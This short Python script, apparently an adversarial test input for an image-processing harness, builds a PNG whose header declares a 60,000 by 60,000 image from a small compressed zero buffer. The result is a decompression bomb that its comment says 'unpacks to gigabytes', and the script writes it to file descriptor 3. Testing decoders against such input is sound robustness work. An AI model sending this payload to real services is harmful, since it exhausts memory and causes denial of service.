# Hands over a small file that unpacks to gigabytes.
# tiers: full partial
# pictures: 0
import os
import struct
import zlib


def part(kind, data):
    crc = zlib.crc32(kind + data)
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0)
png = b"\x89PNG\r\n\x1a\n" + part(b"IHDR", header)
png += part(b"IDAT", zlib.compress(bytes(1_000_000))) + part(b"IEND", b"")
os.write(3, struct.pack("<I", 2) + b"{}" + struct.pack("<I", len(png)) + png)
